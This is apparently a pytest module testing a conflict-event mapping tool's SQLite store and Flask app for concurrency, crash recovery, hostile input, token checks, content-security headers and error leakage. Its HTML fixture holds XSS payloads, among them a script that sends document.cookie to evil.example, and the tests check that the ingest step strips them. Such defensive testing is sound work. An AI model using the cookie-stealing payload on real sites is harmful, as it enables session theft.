"""Reliability: concurrent writers and readers, kills in the middle of a write, hostile input
through the command line and the HTTP API, and the security of the web app.

Every test runs the real thing: ``conflictmap ingest`` in separate processes on a real SQLite
store, the real Flask app with the real extractor (without spaCy's NER, for speed). The long
versions (full-size hostile files, many more kills) run with ``CONFLICTMAP_STRESS=1``
(``make stress``).
"""

from __future__ import annotations

import os
import random
import re
import signal
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from geo.errors import ConflictmapError
from geo.store import open_store
from tests.web_fixtures import sample_store

ROOT = Path(__file__).resolve().parents[1]
STRESS = os.environ.get("CONFLICTMAP_STRESS") == "1"
TOKEN = "reliability-token"

SENTENCES = [
    "Des frappes russes ont tué {n} civils à Alep, selon l'Observatoire syrien.",
    "Des combats ont opposé l'armée syrienne aux rebelles à Idleb, faisant {n} morts.",
    "Un attentat a fait {n} morts à Ankara, selon la police turque.",
    "Les forces turques ont bombardé des positions kurdes près de Raqa, tuant {n} combattants.",
    "« Nous ne céderons pas », a déclaré le ministre à Hambourg, évoquant {n} victimes à Alep.",
    "Des obus sont tombés sur Saraqeb, faisant {n} blessés.",
]


@pytest.fixture(autouse=True)
def _gazetteer(gazetteer_path, monkeypatch):
    monkeypatch.setenv("CONFLICTMAP_GAZETTEER", gazetteer_path)


def article(i: int, sentences: int = 3) -> str:
    """A distinct short article (its number is in every sentence, so no two are the same)."""
    return " ".join(
        SENTENCES[(i + k) % len(SENTENCES)].format(n=i * 100 + k + 2) for k in range(sentences)
    )


def write_corpus(folder: Path, numbers, sentences: int = 3) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for i in numbers:
        (folder / f"doc{i:04d}.txt").write_text(article(i, sentences), encoding="utf-8")
    return folder


# -- running the command line as its own process ---------------------------------------------------
class Run:
    """A finished process: exit code, output, peak memory (MB)."""

    def __init__(self, code: int, out: str, err: str, max_rss_mb: float) -> None:
        self.code, self.out, self.err, self.max_rss_mb = code, out, err, max_rss_mb


def start_cli(args: list[str], tmp: Path, name: str) -> tuple[subprocess.Popen, Path, Path]:
    out, err = tmp / f"{name}.out", tmp / f"{name}.err"
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    proc = subprocess.Popen(
        [sys.executable, "-c", "from geo.cli import main; main()", *args],
        stdout=out.open("w"),
        stderr=err.open("w"),
        env=env,
    )
    return proc, out, err


def finish(proc: subprocess.Popen, out: Path, err: Path, timeout: float = 240) -> Run:
    """Wait for ``proc`` (killing it after ``timeout`` s) and read its peak memory."""
    deadline = time.monotonic() + timeout
    peak_kb = 0
    while True:
        peak_kb = max(peak_kb, _high_water_kb(proc.pid))
        pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            break
        if time.monotonic() > deadline:
            proc.kill()
            pid, status, usage = os.wait4(proc.pid, 0)
            break
        time.sleep(0.05)
    proc.returncode = os.waitstatus_to_exitcode(status)
    # Linux counts the forking parent's peak into a child's ru_maxrss (the memory it had when
    # it exec'd): a test process holding two NER models would make every child look big. The
    # child's own high-water mark (/proc/PID/status, VmHWM) is read while it runs instead.
    return Run(
        proc.returncode,
        out.read_text(encoding="utf-8", errors="replace"),
        err.read_text(encoding="utf-8", errors="replace"),
        (peak_kb or usage.ru_maxrss) / 1024,
    )


def _high_water_kb(pid: int) -> int:
    """The peak resident memory of a running process in kB (0 when it cannot be read)."""
    try:
        with open(f"/proc/{pid}/status", encoding="ascii") as fh:
            for line in fh:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1])
    except (OSError, ValueError):
        pass
    return 0


def cli(args: list[str], tmp: Path, name: str = "cli", timeout: float = 240) -> Run:
    return finish(*start_cli(args, tmp, name), timeout=timeout)


# -- what a sound store looks like ----------------------------------------------------------------
CHILD_TABLES = {"mentions": "doc_pk", "events": "doc_pk", "statements": "doc_pk"}


def assert_sound(db: Path) -> dict[str, int]:
    """The file passes SQLite's integrity check, and every document is whole: its mentions,
    events and statements all there (the counts written with it match), no row belongs to a
    missing document, the full-text and spatial indexes and the places' counters agree."""
    con = sqlite3.connect(db)
    try:
        assert con.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        assert con.execute("PRAGMA foreign_key_check").fetchall() == []
        partial = con.execute(
            "SELECT d.id FROM documents d WHERE "
            "d.n_mentions != (SELECT count(*) FROM mentions m WHERE m.doc_pk = d.pk) OR "
            "d.n_events != (SELECT count(*) FROM events e WHERE e.doc_pk = d.pk) OR "
            "d.n_statements != (SELECT count(*) FROM statements s WHERE s.doc_pk = d.pk)"
        ).fetchall()
        assert partial == [], f"documents missing some of their rows: {partial[:5]}"
        for table, col in CHILD_TABLES.items():
            orphans = con.execute(
                f"SELECT count(*) FROM {table} WHERE {col} NOT IN (SELECT pk FROM documents)"
            ).fetchone()[0]
            assert orphans == 0, f"{orphans} {table} rows without their document"
        indexed = {
            "documents_fts": "documents",
            "events_fts": "events",
            "statements_fts": "statements",
        }
        for name, table in indexed.items():
            # an index over its table's content: "SELECT count(*) FROM <name>" reads the table
            # itself, so the rows the index holds are counted in its own docsize table; the
            # check with rank 1 compares the index with the table's text ("database disk image
            # is malformed" when they disagree)
            n_rows = con.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
            n_indexed = con.execute(f"SELECT count(*) FROM {name}_docsize").fetchone()[0]
            assert n_indexed == n_rows, f"{name} indexes {n_indexed} of {n_rows} {table}"
            con.execute(f"INSERT INTO {name}({name}, rank) VALUES ('integrity-check', 1)")
        located = con.execute("SELECT count(*) FROM events WHERE place_pk IS NOT NULL").fetchone()
        assert con.execute("SELECT count(*) FROM event_rtree").fetchone() == located
        wrong = con.execute(
            "SELECT p.id FROM places p WHERE p.n_mentions != "
            "(SELECT count(*) FROM mentions m WHERE m.place_pk = p.pk)"
        ).fetchall()
        assert wrong == [], f"place counters out of step with the mentions: {wrong[:5]}"
        dup = con.execute("SELECT count(*) - count(DISTINCT hash) FROM documents").fetchone()[0]
        assert dup == 0
        return {
            t: con.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
            for t in ("documents", "mentions", "events", "statements")
        }
    finally:
        con.close()


# -- concurrency ----------------------------------------------------------------------------------
BREAKS = {
    "a document left out of its index": (
        "INSERT INTO documents_fts(documents_fts, rowid, title, text) "
        "SELECT 'delete', pk, title, text FROM documents LIMIT 1"
    ),
    "an event left out of its index": (
        "INSERT INTO events_fts(events_fts, rowid, sentence, actors_text) "
        "SELECT 'delete', id, sentence, actors_text FROM events LIMIT 1"
    ),
    "a text changed behind its index": "UPDATE documents SET text = text || ' Homs.'",
    "a document missing a mention": "DELETE FROM mentions WHERE rowid = (SELECT min(rowid) FROM mentions)",
    "a place's counter out of step": "UPDATE places SET n_mentions = n_mentions + 1",
    "a located event off the map's index": "DELETE FROM event_rtree WHERE rowid = (SELECT min(rowid) FROM event_rtree)",
}


@pytest.mark.parametrize("what", list(BREAKS))
def test_the_soundness_check_finds_a_store_broken(gaz, tmp_path, what):
    """assert_sound, which the tests below rely on, fails on each fault it looks for."""
    from tests.web_fixtures import build_extracted, make_store

    db = tmp_path / "store.sqlite"
    make_store(db, build_extracted(gaz)).close()
    assert_sound(db)
    con = sqlite3.connect(db)
    con.execute(BREAKS[what])
    con.commit()
    con.close()
    with pytest.raises((AssertionError, sqlite3.DatabaseError)):
        assert_sound(db)


def test_overlapping_ingests_with_readers_store_each_document_once(tmp_path):
    """Three ``conflictmap ingest`` processes write overlapping folders into one store while a
    reader thread queries it: afterwards every document is there exactly once, whole, and no
    query failed or saw half a document."""
    n = 45 if STRESS else 18
    third = n // 3
    folders = [  # each number is in two of the three folders
        write_corpus(tmp_path / "a", range(0, 2 * third)),
        write_corpus(tmp_path / "b", range(third, n)),
        write_corpus(tmp_path / "c", [*range(0, third), *range(2 * third, n)]),
    ]
    db = tmp_path / "store.sqlite"
    open_store(db).close()
    failures: list[str] = []
    seen_docs: list[int] = []
    stop = threading.Event()

    def reader() -> None:
        store = open_store(db)
        con = sqlite3.connect(db, timeout=60)
        try:
            while not stop.is_set():
                try:
                    (half,) = con.execute(
                        "SELECT count(*) FROM documents d WHERE d.n_events != "
                        "(SELECT count(*) FROM events e WHERE e.doc_pk = d.pk)"
                    ).fetchone()
                    if half:
                        failures.append(f"a reader saw {half} half-written document(s)")
                    rows, total = store.events(bbox=(30, 30, 45, 40), type="Battles", limit=50)
                    assert total >= len(rows)
                    store.documents(q="Alep", limit=20)
                    store.places(limit=20)
                    store.statements(limit=20)
                    seen_docs.append(store.stats()["documents"])
                except (ConflictmapError, sqlite3.Error, AssertionError) as exc:
                    failures.append(f"{type(exc).__name__}: {exc}")
                time.sleep(0.005)
        finally:
            con.close()
            store.close()

    thread = threading.Thread(target=reader)
    thread.start()
    try:
        runs = [
            start_cli(
                ["ingest", str(f), "--db", str(db), "--workers", "1", "-q", "--no-ner"],
                tmp_path,
                f"w{k}",
            )  # fmt: skip
            for k, f in enumerate(folders)
        ]
        results = [finish(*r, timeout=300) for r in runs]
    finally:
        stop.set()
        thread.join()
    for r in results:
        assert r.code == 0, r.err
        assert "failed 0" in r.out, r.out
    assert sum(int(re.search(r"ingested (\d+)", r.out)[1]) for r in results) == n
    assert failures == []
    assert len(seen_docs) > 5 and seen_docs == sorted(seen_docs)  # never went backwards
    counts = assert_sound(db)
    assert counts["documents"] == n and counts["events"] >= n
    con = sqlite3.connect(db)
    stored = {t for (t,) in con.execute("SELECT text FROM documents")}
    con.close()
    assert stored == {article(i) for i in range(n)}


# -- kills in the middle of a write -------------------------------------------------------------
QUOTES = [
    "« Nous ne céderons pas sur les {n} points », a déclaré le ministre turc à Ankara.",
    "Des frappes russes ont tué {n} civils à Alep mardi, selon l'OSDH.",
    "« Les combats à Idleb ont fait {n} morts », a affirmé le porte-parole de l'armée.",
]


def big_article(i: int, paragraphs: int) -> str:
    """Many paragraphs, most with a quotation: a write of hundreds of rows, one by one."""
    return "\n\n".join(
        QUOTES[k % len(QUOTES)].format(n=i * 1000 + k + 2) for k in range(paragraphs)
    )


def writing(con: sqlite3.Connection) -> bool:
    """True when another connection holds the write lock (a document is being written)."""
    try:
        con.execute("BEGIN IMMEDIATE")
    except sqlite3.OperationalError:
        return True
    con.execute("ROLLBACK")
    return False


def half_written(con: sqlite3.Connection) -> bool:
    return bool(
        con.execute(
            "SELECT 1 FROM documents d WHERE "
            "d.n_mentions != (SELECT count(*) FROM mentions m WHERE m.doc_pk = d.pk) OR "
            "d.n_statements != (SELECT count(*) FROM statements s WHERE s.doc_pk = d.pk) OR "
            "d.n_events != (SELECT count(*) FROM events e WHERE e.doc_pk = d.pk) LIMIT 1"
        ).fetchone()
    )


def test_kill_9_in_the_middle_of_writes_leaves_whole_documents_and_a_rerun_completes(tmp_path):
    """``conflictmap ingest`` is killed with SIGKILL while it holds the write lock, several
    times, each time resuming the same ingest: the store always opens, passes the integrity
    check and holds only whole documents; a last run stores everything that is missing."""
    n_docs, paragraphs = (60, 300) if STRESS else (10, 120)
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for i in range(n_docs):
        (corpus / f"big{i:03d}.txt").write_text(big_article(i, paragraphs), encoding="utf-8")
    db = tmp_path / "store.sqlite"
    open_store(db).close()
    args = ["ingest", str(corpus), "--db", str(db), "--workers", "1", "-q", "--no-ner"]
    kills = 0
    rng = random.Random(6)
    for attempt in range(6 if STRESS else 2):
        before = assert_sound(db)["documents"]
        proc, out, err = start_cli(args, tmp_path, f"kill{attempt}")
        probe = sqlite3.connect(db, timeout=0, isolation_level=None)
        deadline = time.monotonic() + 120
        killed = False
        try:
            while proc.poll() is None and time.monotonic() < deadline:
                stored = probe.execute("SELECT count(*) FROM documents").fetchone()[0]
                # once the run is under way, kill it the moment it is writing a document
                if stored > before + rng.randint(0, 1) and (writing(probe) or half_written(probe)):
                    proc.send_signal(signal.SIGKILL)
                    killed = True
                    break
                time.sleep(0.0005)
        finally:
            probe.close()
        run = finish(proc, out, err, timeout=60)
        if not killed:
            assert run.code == 0, run.err
            break
        assert run.code == -signal.SIGKILL
        kills += 1
        store = open_store(db)  # opens and recovers the WAL
        store.stats()
        store.close()
        after = assert_sound(db)
        assert before <= after["documents"] < n_docs
    assert kills >= 1, "every ingest finished before it could be killed"
    final = cli(args, tmp_path, "final", timeout=300)
    assert final.code == 0, final.err
    m = re.search(r"ingested (\d+), skipped (\d+), failed (\d+)", final.out)
    assert m and int(m[3]) == 0 and int(m[1]) + int(m[2]) == n_docs, final.out
    counts = assert_sound(db)
    assert counts["documents"] == n_docs
    assert counts["statements"] >= n_docs * paragraphs * 0.6


# -- hostile input --------------------------------------------------------------------------------
REPEAT = 400_000 if STRESS else 20_000  # "Alep " * 400,000 is 2,000,000 characters, the maximum
HTML_PAGE = """<!doctype html><html><head><title>Frappes sur Alep</title>
<script>document.write("<p>INJECTED</p>"); fetch("https://evil.example/" + document.cookie)</script>
</head><body><article><h1>Frappes sur Alep</h1>
<p>Des frappes russes ont tué jeudi 30 civils à Alep, selon l'Observatoire syrien des droits
de l'homme, qui dispose d'un large réseau de sources dans le pays.</p>
<script>alert("never stored")</script><img src=x onerror="alert(1)">
<p>Le régime syrien a repris plusieurs quartiers de l'est de la ville, selon la même source.</p>
</article></body></html>"""


GERMAN = (
    "Bei russischen Luftangriffen in Aleppo wurden am Donnerstag 30 Zivilisten getötet, "
    "teilte die Beobachtungsstelle mit."
)


def hostile_corpus(folder: Path) -> dict[str, str]:
    """Files a crawler might hand over, and for each what must come of it: ``ok`` (stored) or a
    word of the error expected."""
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(1)
    (folder / "empty.txt").write_bytes(b"")
    (folder / "binary.txt").write_bytes(bytes(rng.randrange(256) for _ in range(200_000)))
    with (folder / "big.txt").open("wb") as fh:  # 50 MB
        chunk = ("Des combats à Alep. " * 5000).encode()
        for _ in range(50 * 1024 * 1024 // len(chunk) + 1):
            fh.write(chunk)
    (folder / "badutf8.txt").write_bytes("Des frappes à Alep. ".encode() * 10 + b"\xff\xfe\xc3(")
    (folder / "page.html").write_text(HTML_PAGE, encoding="utf-8")
    (folder / "scripts.htm").write_text(
        "<html><body><script>" + "alert(1);" * 10_000 + "</script></body></html>",
        encoding="utf-8",
    )
    (folder / "feed.jsonl").write_bytes(
        b'{"id": "line-ok", "text": "Des combats ont eu lieu mardi \\u00e0 Idleb."}\n'
        b'{"id": "line-cut", "text": "Des comb\n'
        b"\xff\xfe{}\n"
        b'{"id": "line-nul", "text": "\\u0000\\u0000\\u0000\\u0000"}\n'
        b'{"id": "line-num", "text": 42}\n'
        b"[1, 2, 3]\n"
        b'{"id": "line-ok2", "text": "Un attentat a fait cinq morts dimanche \\u00e0 Ankara."}\n'
        b"\x00\x00\x00\n"
    )
    (folder / "repeat.txt").write_text("Alep " * REPEAT, encoding="utf-8")
    (folder / "good.txt").write_text(article(7), encoding="utf-8")
    return {
        "empty": "empty",
        "binary": "UTF-8",
        "big": "too large",
        "badutf8": "UTF-8",
        "page": "ok",
        "scripts": "no article text",
        "line-ok": "ok",
        "feed.jsonl:2": "not JSON",
        "feed.jsonl:3": "UTF-8",
        "line-nul": "binary",
        "line-num": "text",
        "feed.jsonl:6": "JSON object",
        "line-ok2": "ok",
        "feed.jsonl:8": "not JSON",
        "repeat": "ok",
        "good": "ok",
    }


def test_hostile_files_through_the_command_line(tmp_path):
    """Each hostile file gets a one-line reason or is stored; the process exits normally (no
    traceback), with bounded memory; nothing is half-written; a second run changes nothing."""
    expected = hostile_corpus(tmp_path / "in")
    db = tmp_path / "store.sqlite"
    args = ["ingest", str(tmp_path / "in"), "--db", str(db), "--workers", "1", "-q", "--no-ner"]
    run = cli(args, tmp_path, "hostile", timeout=600)
    assert run.code == 0, run.err
    assert "Traceback" not in run.err + run.out
    failed = dict(re.findall(r"^  failed (\S+): (.+)$", run.err, re.M))
    ok = sorted(k for k, v in expected.items() if v == "ok")
    assert f"ingested {len(ok)}, skipped 0, failed {len(expected) - len(ok)}" in run.out, run.out
    for doc_id, word in expected.items():
        if word != "ok":
            assert word in failed.get(doc_id, ""), (doc_id, failed.get(doc_id))
    assert run.max_rss_mb < 1500, f"peak memory {run.max_rss_mb:.0f} MB"
    counts = assert_sound(db)
    assert counts["documents"] == len(ok)
    con = sqlite3.connect(db)
    ids = sorted(i for (i,) in con.execute("SELECT id FROM documents"))
    page = con.execute("SELECT text FROM documents WHERE id = 'page'").fetchone()[0]
    con.close()
    assert ids == ok
    for junk in ("<script", "alert", "INJECTED", "evil.example", "onerror"):
        assert junk not in page
    again = cli(args, tmp_path, "again", timeout=600)
    assert f"ingested 0, skipped {len(ok)}" in again.out, again.out
    assert again.code == 2  # nothing new and something failed, as documented
    assert assert_sound(db) == counts


@pytest.fixture(scope="module")
def post_app(gaz, gazetteer_path, tmp_path_factory):
    from geo.geoparse import Geoparser
    from geo.pipeline import Extractor
    from web import create_app

    db = tmp_path_factory.mktemp("post") / "store.sqlite"
    open_store(db).close()
    app = create_app(
        {
            "DB": str(db),
            "GAZETTEER": gazetteer_path,
            "API_TOKEN": TOKEN,
            "EXTRACTOR": Extractor(Geoparser(gaz, use_ner=False)),
        }
    )
    yield app, db
    app.extensions["conflictmap"].close()


def post_cases() -> list[tuple[str, dict, set[int]]]:
    rng = random.Random(2)
    big = b"Des combats a Alep. " * (50 * 1024 * 1024 // 20)
    return [
        ("empty text/plain", {"data": b"", "content_type": "text/plain"}, {400}),
        ("empty JSON", {"data": b"", "content_type": "application/json"}, {400}),
        ("whitespace", {"json": {"text": " \n\t "}}, {400}),
        (
            "binary",
            {
                "data": bytes(rng.randrange(256) for _ in range(4096)),
                "content_type": "application/octet-stream",
            },
            {400},
        ),  # fmt: skip
        (
            "binary as text",
            {"data": bytes(rng.randrange(256) for _ in range(4096)), "content_type": "text/plain"},
            {400},
        ),  # fmt: skip
        ("control characters", {"json": {"text": "\x00\x01\x02\x03" * 100}}, {400}),
        ("50 MB", {"data": big, "content_type": "text/plain"}, {413}),
        (
            "invalid UTF-8",
            {"data": "Des frappes à Alep".encode() + b"\xff\xc3(", "content_type": "text/plain"},
            {400},
        ),  # fmt: skip
        (
            "invalid UTF-8 JSON",
            {"data": b'{"text": "Alep \xff\xfe"}', "content_type": "application/json"},
            {400},
        ),  # fmt: skip
        ("HTML with scripts", {"data": HTML_PAGE.encode(), "content_type": "text/plain"}, {201}),
        (
            "JSON Lines",
            {
                "data": b'{"text": "Des combats \\u00e0 Idleb."}\n{"text": "Des co\n',
                "content_type": "application/json",
            },
            {400},
        ),  # fmt: skip
        (
            "JSON nested deep",
            {"data": b"[" * 100_000 + b"]" * 100_000, "content_type": "application/json"},
            {400},
        ),  # fmt: skip
        (
            "repetition",
            {"data": ("Alep " * REPEAT).encode(), "content_type": "text/plain"},
            {201, 400},
        ),  # fmt: skip
        (
            "NUL inside",
            {"json": {"text": "Des frappes ont visé Alep.\x00 Trois morts à Idleb."}},
            {201, 400},
        ),  # fmt: skip
        (
            "RTL and marks",
            {"json": {"text": "\u202eDes frappes à Alep\u0301 « (\u200f دمشق"}},
            {201, 400},
        ),  # fmt: skip
    ]


@pytest.mark.parametrize("name,kwargs,statuses", post_cases(), ids=[c[0] for c in post_cases()])
def test_hostile_posts_get_a_clear_answer_and_leave_the_store_whole(
    post_app, name, kwargs, statuses
):
    app, db = post_app
    client = app.test_client()
    before = assert_sound(db)
    resp = client.post("/api/documents", headers={"Authorization": f"Bearer {TOKEN}"}, **kwargs)
    assert resp.status_code in statuses, (resp.status_code, resp.data[:300])
    body = resp.get_json()
    assert isinstance(body, dict)
    if resp.status_code >= 400:
        assert body["error"] and len(body["error"]) < 500
        assert assert_sound(db) == before
    else:
        assert body["stored"] is True
        doc = client.get(f"/api/documents/{body['id']}").get_json()
        assert doc["text"] == kwargs.get("json", {}).get("text") or doc["text"]
        after = assert_sound(db)
        assert after["documents"] == before["documents"] + 1
    assert client.get("/api/events?limit=1").status_code == 200  # the app is still there


# -- security -------------------------------------------------------------------------------------
web_store = sample_store("sec")


def make_app(store, gazetteer_path, **config):
    from web import create_app

    return create_app({"STORE": store, "GAZETTEER": gazetteer_path, "API_TOKEN": TOKEN, **config})


WRITE_METHODS = {"POST", "PUT", "PATCH", "DELETE"}


def write_routes(app) -> list[tuple[str, str]]:
    out = []
    for rule in app.url_map.iter_rules():
        for method in sorted((rule.methods or set()) & WRITE_METHODS):
            url = re.sub(r"<(?:[^:>]+:)?([^>]+)>", r"x-\1", rule.rule)
            out.append((method, url))
    return out


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Authorization": "Bearer wrong-token"},
        {"Authorization": "Bearer " + TOKEN + "x"},
        {"Authorization": "Bearer " + TOKEN[:-1]},
        {"Authorization": TOKEN},
        {"Authorization": "Basic " + TOKEN},
        {"Authorization": "Bearer"},
        {"X-Api-Token": TOKEN},
    ],
)
def test_every_write_endpoint_refuses_a_missing_or_wrong_token(web_store, gazetteer_path, headers):
    app = make_app(web_store, gazetteer_path)
    routes = write_routes(app)
    assert ("POST", "/api/documents") in routes
    before = web_store.stats()
    client = app.test_client()
    for method, url in routes:
        resp = client.open(
            url, method=method, json={"text": "Des frappes russes à Alep."}, headers=headers
        )
        assert resp.status_code == 401, (method, url, resp.status_code)
        assert resp.get_json()["error"]
    assert web_store.stats() == before


def csp(resp) -> dict[str, list[str]]:
    header = resp.headers.get("Content-Security-Policy")
    assert header, resp.request.path if resp.request else resp
    out = {}
    for part in header.split(";"):
        name, *values = part.split()
        out[name] = values
    return out


@pytest.mark.parametrize("tiles", [False, True])
def test_map_page_policy_allows_only_its_own_assets(web_store, gazetteer_path, tiles):
    app = make_app(web_store, gazetteer_path, OSM_TILES=tiles)
    client = app.test_client()
    for path in ("/", "/map", "/documents", "/documents/doc-hostile"):
        resp = client.get(path)
        assert resp.status_code == 200, path
        policy = csp(resp)
        assert policy["default-src"] == ["'none'"]
        assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'none'"]
        scripts = policy["script-src"]
        assert scripts[0] == "'self'" and all(s.startswith("'nonce-") for s in scripts[1:])
        for name, values in policy.items():
            assert "'unsafe-eval'" not in values and "*" not in values, name
            if name != "style-src":
                assert "'unsafe-inline'" not in values, name
            external = [v for v in values if re.match(r"https?:|\w+\.\w", v)]
            allowed = ["https://tile.openstreetmap.org"] if (tiles and name == "img-src") else []
            assert external == allowed, (path, name, values)
        page = resp.get_data(as_text=True)
        nonce = scripts[1].removeprefix("'nonce-").rstrip("'") if len(scripts) > 1 else None
        for tag in re.findall(r"<script\b[^>]*>", page):
            assert nonce and f'nonce="{nonce}"' in tag, tag
        assets = re.findall(r'<(?:script|link|img)\b[^>]*?\s(?:src|href)="([^"]+)"', page)
        for url in assets:
            assert not re.match(r"(?:https?:)?//", url), url  # never another origin
            if url.startswith("/") and path in ("/", "/map"):
                assert client.get(url).status_code == 200, url  # and it is served


class _Exploding:
    """A store whose every call fails the way a broken installation would."""

    SECRET = "/srv/secret-location/conflictmap.sqlite"

    def __getattr__(self, name):
        def fail(*args, **kwargs):
            if name in ("events", "iter_events"):
                raise sqlite3.OperationalError(f"unable to open database file {self.SECRET}")
            if name in ("statements", "country_counts"):
                raise ConflictmapError(f"cannot open the database {self.SECRET}")
            raise RuntimeError(f"boom in {name} reading {self.SECRET} at {__file__}")

        return fail


def leaks(body: bytes) -> list[str]:
    text = body.decode("utf-8", errors="replace")
    found = [
        marker
        for marker in (
            "Traceback",
            'File "',
            "line ",
            _Exploding.SECRET,
            "secret-location",
            str(ROOT),
            "site-packages",
            ".py",
            "sqlite3.",
            "OperationalError",
            "RuntimeError",
        )
        if marker in text
    ]
    return found


GET_URLS = [
    "/",
    "/map",
    "/documents",
    "/documents/doc-1",
    "/map/popup/events?ids=1",
    "/api/events",
    "/api/events?bbox=35,32,43,38&start=2016-01-01&end=2016-12-31&type=Battles",
    "/api/statements",
    "/api/places",
    "/api/documents",
    "/api/documents/doc-1",
    "/export/events.geojson",
    "/export/events.csv",
    "/export/events.gpkg",
    "/snapshot.png",
    "/snapshot.svg",
]


def test_errors_never_show_a_stack_trace_or_a_path(gazetteer_path):
    """Every page and endpoint over a store that raises: a 5xx with a short message and no
    traceback, exception name, file path or database path."""
    app = make_app(_Exploding(), gazetteer_path)
    client = app.test_client()
    statuses = {}
    for url in GET_URLS:
        resp = client.get(url)
        body = resp.get_data()
        statuses[url] = resp.status_code
        assert resp.status_code >= 400, url
        assert leaks(body) == [], (url, body[:300])
        assert len(body) < 5000, url
    assert any(s >= 500 for s in statuses.values()), statuses
    resp = client.post(
        "/api/documents",
        json={"text": "Des frappes à Alep."},
        headers={"Authorization": f"Bearer {TOKEN}"},
    )
    assert resp.status_code == 500 and leaks(resp.get_data()) == []
